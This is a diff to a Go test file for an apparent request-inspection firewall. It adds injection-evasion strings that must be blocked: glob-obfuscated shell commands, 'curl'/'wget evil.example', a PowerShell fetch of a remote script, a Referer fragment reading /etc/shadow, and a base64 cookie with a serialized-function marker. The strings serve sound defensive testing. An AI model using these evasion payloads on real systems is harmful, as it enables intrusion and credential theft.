@@ -1,6 +1,10 @@
 package inspect
 
-import "testing"
+import (
+	"encoding/base64"
+	"net/http"
+	"testing"
+)
 
 // TestEvasionForms checks the shapes of shell and SQL injection that
 // need no well-known keyword pair: globs and empty expansions inside
@@ -25,10 +29,12 @@ func TestEvasionForms(t *testing.T) {
 			[]string{"head /[?]ar/lo[?]/syslog", "/usr/[b-c]in/sh", "/us[r]/bin/id", "/tmp/[x//]y", "who$()ami", "una``me -a", "ls<()", "{,uname,-a}", "{whoami,}",
 				"$x1$x2$x3", "() { :;}; echo x", "alias ll=rm", "q;alias -p x=id", ";\n.system id", "find / -perm -4000", "more /var/log/auth.log",
 				"x;w$!ho$!ami", "ansible localhost -m shell", "wget evil.example", "chef-client -z", "IF \"%a%\"==\"1\" del x.txt", "if x==y goto end",
-				"time; knife node list"},
+				"time; knife node list", "env --help", "kubectl --namespace=x", "apt-get install nmap", "cscli decisions list", "time; visudo\n",
+				"$SHELL -c id", "/bin/l? /ho*/", "|$x curl evil.example", ";iwr http://x.example/a.ps1"},
 			[]string{"see /wiki/[draft] notes", "$uper$ecret$", "python requests.get example", "perl 5.36 release", "if a==b: print(x)",
 				"if (a==b) return x", "alias of the author", "find a good book", "more or less / give or take", "node v20.1 changelog",
-				"price $5 $10", "the cat sat on the mat"}},
+				"price $5 $10", "the cat sat on the mat", "more --verbose than needed", "the free -- as in beer", "state-of-the-art design",
+				"see /search?q=1 /docs/", "e-mail me"}},
 		{SQLi,
 			[]string{"x'^name--", "n' div id#", "k'or name notnull--", "' isnull --", "a' or--", "user'collate binary--", "7=7", "c,9=9", "5<=>5",
 				"'x'='x", "q' and name glob name;", "OR '{\"k\":1}' ->> '$.k' = 1", "'[3]' ? '3'", "\";select x", "' union(select", "\"drop t",
@@ -59,6 +65,32 @@ func TestEvasionForms(t *testing.T) {
 			if v := inspectValue(t, e, b); v.Action == Block {
 				t.Errorf("%s: %q: blocked %+v, want allowed", tt.class, b, v.Findings)
 			}
+		}
+	}
+}
+
+// TestHiddenPlaces checks inputs found where they are not usually looked
+// for: the fragment of a Referer (browsers never send one) and a cookie
+// that is base64 text of a serialized function.
+func TestHiddenPlaces(t *testing.T) {
+	e, err := New(Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name   string
+		header http.Header
+		block  bool
+	}{
+		{"referer fragment", http.Header{"Referer": {"https://shop.example/p?id=1#a=b;cat+/etc/shadow"}}, true},
+		{"referer fragment benign", http.Header{"Referer": {"https://shop.example/docs/intro#getting-started"}}, false},
+		{"base64 cookie", http.Header{"Cookie": {"profile=" + base64.StdEncoding.EncodeToString([]byte(`{"x":"_$$ND_FUNC$$_function(){}"}`))}}, true},
+		{"base64 cookie benign", http.Header{"Cookie": {"prefs=" + base64.StdEncoding.EncodeToString([]byte(`{"theme":"dark","lang":"en"}`))}}, false},
+	}
+	for _, tt := range tests {
+		v := e.Inspect(&Request{Method: "GET", URI: "/", Header: tt.header})
+		if (v.Action == Block) != tt.block {
+			t.Errorf("%s: got %v %+v, want block=%v", tt.name, v.Action, v.Findings, tt.block)
 		}
 	}
 }
